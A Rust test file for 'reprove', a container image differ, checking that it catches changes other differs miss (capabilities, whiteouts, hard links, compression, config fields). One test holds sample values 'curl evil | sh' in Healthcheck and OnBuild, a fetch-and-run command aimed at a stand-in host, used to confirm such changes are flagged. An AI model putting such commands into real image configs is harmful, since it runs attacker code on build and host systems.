//! What the differs that exist get wrong, each verified on them, is right here.
//!
//! Named in each test: diffoci, container-diff, diffoscope.

use std::{
    env, fs, io,
    os::unix::fs::FileExt as _,
    path::{Path, PathBuf},
};

use reprove::{
    compare::{Attribute, Bearing, Comparison},
    digest::{Digest, Hasher},
    pair::Pair,
    verdict::Verdict::{self, NotReproduced, Reproduced},
};

use crate::{
    changes::{
        archive::{Archive, BLOCK, Member, SIZE, extension},
        chain, compared, compared_names,
        image::{self, Image, Layer, called},
        json, verdicts,
    },
    support::{
        registry::{Readers, Registry, has},
        reprove, said,
        sandbox::without_root,
        skip,
    },
};

const NOT: [Verdict; 3] = [NotReproduced; 3];
/// Of bit-for-bit, standard and ignore-times: only the first asks for the same packing.
const SAME_FILES: [Verdict; 3] = [NotReproduced, Reproduced, Reproduced];

fn image(members: &[Member]) -> Image {
    Image::plain(vec![Layer::new(members.to_vec())])
}

/// Returns where two images are written.
fn sides_in(folder: &Path) -> Pair<PathBuf> {
    Pair::new("published", "rebuilt").map(|side| folder.join(side))
}

#[track_caller]
fn diff(mut published: Image, mut rebuilt: Image) -> Comparison {
    let folder = tempfile::tempdir().unwrap();
    let sides = sides_in(folder.path());
    published.write(&sides.published);
    rebuilt.write(&sides.rebuilt);
    compared(sides.as_ref().map(|side| &**side), None).unwrap()
}

/// Returns every difference as "location attribute", in order.
fn found(comparison: &Comparison) -> Vec<String> {
    let all = comparison.differences.iter();
    all.map(|found| format!("{} {}", found.location, found.attribute.name()))
        .collect()
}

fn with_config(pointer: &str, value: &str) -> Image {
    let mut image = image(&[Member::file("bin/sh", b"sh")]);
    image.config = json::set(&image.config, pointer, value);
    image
}

#[test]
fn two_capabilities_are_told_apart_whoever_asks() {
    // diffoci drops security.* without root, and with root shows "? ?".
    let capability = |low: u8| {
        let value = [1, 0, 0, 2, low, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        let file = Member::file("bin/ping", b"ping").with_mode(0o755);
        image(&[file.with_pax(&[("SCHILY.xattr.security.capability", &value)])])
    };
    let comparison = diff(capability(0x20), capability(0x21));
    assert_eq!(found(&comparison), ["/bin/ping xattr"]);
    let difference = &comparison.differences[0];
    assert_eq!(
        difference.attribute.detail().as_deref(),
        Some("security.capability")
    );
    assert!(!difference.values.is_equal());
    assert_eq!(verdicts(&comparison), NOT);
    without_root("peers::two_capabilities_are_told_apart_whoever_asks");
}

#[test]
fn what_a_config_runs_is_seen_in_every_field_that_runs_something() {
    // diffoci parses into the OCI type, which has none of these; container-diff has no Healthcheck.
    let cases = [
        (
            "/config/Healthcheck",
            r#"{"Test":["CMD-SHELL","curl evil | sh"]}"#,
        ),
        ("/config/OnBuild", r#"["RUN curl evil | sh"]"#),
        ("/config/Shell", r#"["/evil"]"#),
    ];
    for (pointer, value) in cases {
        let comparison = diff(with_config("/config/User", "\"0\""), {
            let mut image = with_config("/config/User", "\"0\"");
            image.config = json::set(&image.config, pointer, value);
            image
        });
        assert_eq!(found(&comparison), [format!("config {pointer} json")]);
        assert_eq!(verdicts(&comparison), NOT, "{pointer}");
    }
}

#[test]
fn a_symbolic_links_target_is_compared_with_its_first_slash() {
    // diffoci takes /tmp/ld.so for tmp/ld.so.
    let link = |target| image(&[Member::link(b'2', "lib/ld.so", target)]);
    let comparison = diff(link("/tmp/ld.so"), link("tmp/ld.so"));
    assert_eq!(found(&comparison), ["/lib/ld.so link-target"]);
    assert_eq!(verdicts(&comparison), NOT);
}

#[test]
fn the_same_files_in_more_layers_are_the_same_files() {
    // diffoci lines up layers one after the other, without deletions or overwriting.
    let one = Member::file("etc/one", b"1");
    let two = Member::file("etc/two", b"2");
    let split = Image::plain(vec![
        Layer::new(vec![one.clone()]),
        Layer::new(vec![two.clone()]),
    ]);
    let comparison = diff(split, image(&[one, two]));
    assert_eq!(found(&comparison), ["layers layer-count"]);
    assert_eq!(verdicts(&comparison), SAME_FILES);
}

#[test]
fn what_a_later_layer_deletes_or_overwrites_is_not_in_the_file_system_and_is_said() {
    // diffoci still compares it as if it were there.
    let kept = Member::file("etc/kept", b"kept");
    let lower = vec![
        kept.clone(),
        Member::file("etc/secret", b"key"),
        Member::file("etc/twice", b"1"),
    ];
    let upper = vec![
        Member::file("etc/.wh.secret", b""),
        Member::file("etc/twice", b"2"),
    ];
    let layered = Image::plain(vec![Layer::new(lower), Layer::new(upper)]);
    let comparison = diff(layered, image(&[kept, Member::file("etc/twice", b"2")]));
    assert!(comparison.equality.files);
    assert_eq!(
        found(&comparison),
        [
            "layers layer-count",
            "/etc/.wh.secret presence",
            "/etc/secret presence",
            "/etc/twice presence"
        ]
    );
    let hidden = &comparison.differences[1..];
    assert!(
        hidden
            .iter()
            .all(|found| found.bearing == Bearing::LayerOddity)
    );
    assert_eq!(verdicts(&comparison), NOT);
}

#[test]
fn the_same_archive_in_gzip_and_zstd_has_the_same_files() {
    // diffoci reports every layer as different.
    let published = image(&[Member::file("etc/motd", b"hello")]);
    let mut rebuilt = published.clone();
    rebuilt.layers[0].blob =
        Some(zstd::encode_all(&*rebuilt.layers[0].archive.bytes(), 3).unwrap());
    let zstd = "\"application/vnd.oci.image.layer.v1.tar+zstd\"";
    rebuilt.manifest = json::set(&rebuilt.manifest, "/layers/0/mediaType", zstd);
    let comparison = diff(published, rebuilt);
    assert!(comparison.equality.config);
    assert_eq!(verdicts(&comparison), SAME_FILES);
}

#[test]
fn which_name_of_a_hard_linked_file_comes_first_makes_no_other_file_system() {
    // diffoci reports a file that became a link, and a link that became a file.
    let pair = |first, second| {
        image(&[
            Member::file(first, b"both"),
            Member::link(b'1', second, first),
        ])
    };
    let comparison = diff(pair("bin/a", "bin/b"), pair("bin/b", "bin/a"));
    assert!(comparison.equality.files);
    assert!(!comparison.differences.is_empty());
    assert_eq!(
        verdicts(&comparison),
        SAME_FILES,
        "{:#?}",
        comparison.differences
    );
}

#[test]
fn a_long_name_is_the_same_as_a_pax_record_and_as_a_gnu_header() {
    // diffoci compares the records.
    let name = "usr/share/".to_owned() + &"long/".repeat(30) + "name";
    let pax = Member::file(&name, b"content");
    let mut gnu = pax.clone();
    gnu.extensions = extension(b'L', format!("{name}\0").as_bytes());
    let comparison = diff(image(&[pax]), image(&[gnu]));
    assert_eq!(found(&comparison), [format!("/{name} header")]);
    assert_eq!(verdicts(&comparison), SAME_FILES);
}

#[test]
fn every_reason_why_a_file_differs_is_listed() {
    // diffoci stops at the first.
    use crate::changes::archive::{GID, MTIME, UID};
    let file = Member::file("etc/conf", b"a");
    let mut other = Member::file("etc/conf", b"bb").with_mode(0o4600);
    other.set(UID, 7);
    other.set(GID, 8);
    other.set(MTIME, 9);
    let comparison = diff(image(&[file]), image(&[other]));
    let attributes: Vec<&str> = comparison
        .differences
        .iter()
        .map(|found| found.attribute.name())
        .collect();
    assert_eq!(
        attributes,
        ["size", "content", "mode", "uid", "gid", "mtime"]
    );
}

#[test]
fn two_runs_say_the_same_in_the_same_order() {
    // diffoci's order is that of a hash map.
    let members = |content: &str| -> Vec<Member> {
        (0..50)
            .map(|number| Member::file(&format!("f{number}"), content.as_bytes()))
            .collect()
    };
    let run = || format!("{:?}", diff(image(&members("a")), image(&members("b"))));
    let first = run();
    assert_eq!(first, run());
    let paths: Vec<usize> = ["/f0,", "/f1,", "/f10,", "/f9,"]
        .iter()
        .map(|path| first.find(path).unwrap())
        .collect();
    assert!(paths.is_sorted(), "{paths:?}");
}

#[test]
fn an_archive_cut_inside_a_header_is_an_error_that_names_the_layer() {
    // diffoci panics.
    let folder = tempfile::tempdir().unwrap();
    let mut image = image(&[Member::file("etc/a", b"a"), Member::file("etc/b", b"b")]);
    let whole = image.layers[0].archive.bytes();
    for cut in [100, 511, 1024 + 100, 1024 + 511] {
        let bytes = &whole[..cut];
        image.layers[0].blob = Some(crate::changes::image::gzip(bytes, 1));
        let mut written = image.clone();
        let diff_id = Digest::of(bytes).to_string();
        // Sealed over the bytes that are there, so that nothing but the archive is wrong.
        written.seal_with(&[diff_id]).write(folder.path());
        let error = compared(Pair::new(folder.path(), folder.path()), None).unwrap_err();
        let text = chain(&error);
        assert!(
            text.contains(&called(0)) && text.contains("tar"),
            "{cut}: {text}"
        );
    }
}

#[test]
fn a_corrupt_layer_reached_through_an_index_is_an_error() {
    // diffoci in its index mode goes on without the layer.
    let folder = tempfile::tempdir().unwrap();
    let mut image = image(&[Member::file("etc/a", &[b'a'; 5000])]);
    image.nested = true;
    let mut written = image.seal();
    let blob = &mut written.blobs[0].1;
    let middle = blob.len() / 2;
    blob[middle] ^= 1;
    written.write(folder.path());
    let error = compared(Pair::new(folder.path(), folder.path()), None).unwrap_err();
    assert!(chain(&error).contains(&called(0)), "{}", chain(&error));
}

#[test]
fn a_pull_that_fails_is_trouble_and_another_image_is_a_difference() {
    // diffoci exits 1 for both; container-diff exits 0 where images differ.
    let home = tempfile::tempdir().unwrap();
    let sides = sides_in(home.path());
    image(&[Member::file("a", b"1")]).write(&sides.published);
    image(&[Member::file("a", b"2")]).write(&sides.rebuilt);
    let cases = [
        ("the same", "oci:published", 0),
        ("another", "oci:rebuilt", 1),
        ("no layout", "oci:gone", 2),
        ("no registry", "127.0.0.1:1/app:1", 2),
    ];
    for (case, other, status) in cases {
        let said = said(reprove(home.path()).args(["diff", "oci:published", other]));
        assert_eq!(said.status, Some(status), "{case}: {said:?}");
        assert_eq!(said.stdout.is_empty(), status == 2, "{case}: {said:?}");
    }
}

#[test]
fn an_image_is_read_from_a_folder_an_archive_and_a_registry_without_tls() {
    // diffoci takes neither the first nor the second as they are, and no registry on
    // localhost that has no TLS.
    let folder = tempfile::tempdir().unwrap();
    let sides = sides_in(folder.path());
    image(&[Member::file("a", b"1")]).write(&sides.published);
    image(&[Member::file("a", b"2")]).write(&sides.rebuilt);
    let archive = folder.path().join("archive.tar");
    let mut builder = tar::Builder::new(fs::File::create(&archive).unwrap());
    builder.append_dir_all("", &sides.published).unwrap();
    builder.finish().unwrap();
    let layout = format!("oci:{}", sides.published.display());
    let mut names = vec![format!("oci-archive:{}", archive.display())];
    let registry = has(&["skopeo"])
        .then(|| Registry::start(Readers::All))
        .flatten();
    if let Some(registry) = &registry {
        registry.push(&layout, "app:1");
        names.push(registry.name("app:1"));
        names.push(registry.name("app:1").replace("127.0.0.1", "localhost"));
    }
    for name in names {
        let comparison = compared_names(&Pair::new(name.clone(), layout.clone()), None).unwrap();
        assert_eq!(found(&comparison), [""; 0], "{name}");
        assert_eq!(comparison.equality.manifest, Some(true), "{name}");
        let other = format!("oci:{}", sides.rebuilt.display());
        let comparison = compared_names(&Pair::new(name.clone(), other), None).unwrap();
        assert_eq!(found(&comparison), ["/a content"], "{name}");
    }
}

/// Writes a layout with one layer that holds one file: zeros, and a last byte.
///
/// Hardly any of it takes room on the disk.
fn write_large(folder: &Path, size: u64, last: u8) {
    let mut member = Member::file("large", b"");
    member.set(SIZE, size);
    let whole = size.next_multiple_of(BLOCK as u64) + 3 * BLOCK as u64;
    let blobs = folder.join("blobs/sha256");
    fs::create_dir_all(&blobs).unwrap();
    let path = folder.join("layer");
    let file = fs::File::create(&path).unwrap();
    file.set_len(whole).unwrap();
    file.write_all_at(&member.header, 0).unwrap();
    file.write_all_at(&[last], BLOCK as u64 + size - 1).unwrap();
    let mut hasher = Hasher::default();
    io::copy(&mut fs::File::open(&path).unwrap(), &mut hasher).unwrap();
    let digest = hasher.finish();
    fs::rename(&path, blobs.join(digest.hex())).unwrap();

    let mut image = image(&[]);
    let mut written = image.seal_with(&[digest.to_string()]);
    let layer = "application/vnd.oci.image.layer.v1.tar";
    let descriptor = format!(r#"{{"mediaType":"{layer}","digest":"{digest}","size":{whole}}}"#);
    let manifest = json::set(&image.manifest, "/layers/0", &descriptor).into_bytes();
    let name = image::digest(&manifest);
    for (field, value) in [
        ("digest", format!("{name:?}")),
        ("size", manifest.len().to_string()),
    ] {
        let pointer = format!("/manifests/0/{field}");
        written.index_json = json::set(&written.index_json, &pointer, &value);
    }
    written.blobs.push((name, manifest));
    written.write(folder);
}

#[test]
fn a_layer_of_more_than_four_gibibytes_is_compared_to_its_last_byte() {
    // diffoci reads no blob that is larger.
    if env::var_os("REPROVE_TEST_FAT").is_none() {
        skip("more than four GiB are hashed only with REPROVE_TEST_FAT");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let sides = sides_in(folder.path());
    let size = (4 << 30) + 1;
    write_large(&sides.published, size, 1);
    write_large(&sides.rebuilt, size, 2);
    let comparison = compared(sides.as_ref().map(|side| &**side), None).unwrap();
    assert_eq!(found(&comparison), ["/large content"]);
    assert_eq!(verdicts(&comparison), NOT);
}

#[test]
fn everything_about_a_file_counts_not_its_name_and_size_alone() {
    // container-diff ignores all but the last, and compares a nested tar by its size.
    use crate::changes::archive::{MAJOR, MTIME, UID};
    let change = |member: &Member, field, value| {
        let mut other = member.clone();
        other.set(field, value);
        other
    };
    let file = Member::file("bin/a", b"a");
    let device = Member::new(b'3', "dev/a");
    let nested = |content: &[u8]| {
        Member::file(
            "usr/src/a.tar",
            &Archive::new(vec![Member::file("a", content)]).bytes(),
        )
    };
    let cases = [
        ("mode", file.clone(), file.clone().with_mode(0o4644)),
        ("uid", file.clone(), change(&file, UID, 1)),
        ("mtime", file.clone(), change(&file, MTIME, 1)),
        (
            "xattr",
            file.clone(),
            file.clone().with_pax(&[("SCHILY.xattr.user.a", b"b")]),
        ),
        ("device", device.clone(), change(&device, MAJOR, 9)),
        ("content", nested(b"a"), nested(b"b")),
    ];
    for (attribute, published, rebuilt) in cases {
        let path = published.path();
        let comparison = diff(image(&[published]), image(&[rebuilt]));
        assert_eq!(found(&comparison), [format!("/{path} {attribute}")]);
        assert_eq!(verdicts(&comparison)[1], NotReproduced, "{attribute}");
    }
    let link = |target| {
        image(&[
            Member::file("a", b"1"),
            Member::file("b", b"1"),
            Member::link(b'1', "c", target),
        ])
    };
    let comparison = diff(link("a"), link("b"));
    assert!(
        comparison
            .differences
            .iter()
            .any(|found| found.attribute == Attribute::HardLinks)
    );
    assert_eq!(verdicts(&comparison), NOT);
}

#[test]
fn an_image_that_changed_under_its_name_is_read_anew() {
    // container-diff caches by the name in the arguments.
    let folder = tempfile::tempdir().unwrap();
    let sides = sides_in(folder.path());
    image(&[Member::file("a", b"1")]).write(&sides.published);
    image(&[Member::file("a", b"1")]).write(&sides.rebuilt);
    let paths = || sides.as_ref().map(|side| &**side);
    assert_eq!(verdicts(&compared(paths(), None).unwrap()), [Reproduced; 3]);
    image(&[Member::file("a", b"2")]).write(&sides.rebuilt);
    assert_eq!(verdicts(&compared(paths(), None).unwrap()), NOT);
}

#[test]
fn layers_are_opened_and_matched_whatever_their_blobs_are_called() {
    // diffoscope opens no layer of a layout or archive whose blobs have other names.
    let folder = tempfile::tempdir().unwrap();
    let archive = |image: &mut Image, name: &str| {
        image.seal();
        let layers = image.layers.iter().enumerate();
        let mut members: Vec<Member> = layers
            .map(|(number, layer)| {
                Member::file(&format!("{number}/layer.tar"), &layer.archive.bytes())
            })
            .collect();
        members.push(Member::file("config.json", image.config.as_bytes()));
        members.push(Member::file(
            "manifest.json",
            br#"[{"Config":"config.json","RepoTags":null,"Layers":["0/layer.tar"]}]"#,
        ));
        let file = folder.path().join(name);
        fs::write(&file, Archive::new(members).bytes()).unwrap();
        format!("docker-archive:{}", file.display())
    };
    let mut published =
        image(&[Member::file("etc/a", b"1").with_pax(&[("SCHILY.xattr.user.a", b"b")])]);
    let mut rebuilt =
        image(&[Member::file("etc/a", b"2").with_pax(&[("SCHILY.xattr.user.a", b"c")])]);
    let layout = folder.path().join("layout");
    published.write(&layout);
    let same = Pair::new(
        format!("oci:{}", layout.display()),
        archive(&mut published, "a.tar"),
    );
    let comparison = compared_names(&same, None).unwrap();
    assert!(comparison.equality.config, "{:?}", comparison.differences);
    let other = Pair::new(same.published, archive(&mut rebuilt, "b.tar"));
    let comparison = compared_names(&other, None).unwrap();
    let entries: Vec<String> = found(&comparison)
        .into_iter()
        .filter(|found| found.starts_with('/'))
        .collect();
    // Nor does diffoscope ever show the xattrs of a tar's members.
    assert_eq!(entries, ["/etc/a content", "/etc/a xattr"]);
}

#[test]
fn a_broken_hard_link_of_a_large_file_is_said_in_a_few_words() {
    // diffoscope writes a hexdump of 237,780 lines.
    let large = vec![b'x'; 1 << 20];
    let linked = [
        Member::file("bin/a", &large),
        Member::link(b'1', "bin/b", "bin/a"),
    ];
    let copied = [Member::file("bin/a", &large), Member::file("bin/b", &large)];
    let comparison = diff(image(&linked), image(&copied));
    assert!(found(&comparison).contains(&"/bin/b hard-links".to_owned()));
    assert!(format!("{:?}", comparison.differences).len() < 2000);
    assert_eq!(verdicts(&comparison), NOT);
}

#[test]
fn times_are_ignored_by_themselves() {
    // diffoscope ignores modes and owners with them.
    use crate::changes::archive::{MTIME, UID};
    let file = Member::file("a", b"a");
    let mut later = file.clone();
    later.set(MTIME, 1);
    let comparison = diff(
        image(std::slice::from_ref(&file)),
        image(std::slice::from_ref(&later)),
    );
    assert_eq!(
        verdicts(&comparison),
        [NotReproduced, NotReproduced, Reproduced]
    );
    for other in [later.clone().with_mode(0o600), {
        later.set(UID, 1);
        later
    }] {
        let comparison = diff(image(std::slice::from_ref(&file)), image(&[other]));
        assert_eq!(verdicts(&comparison), NOT);
    }
}
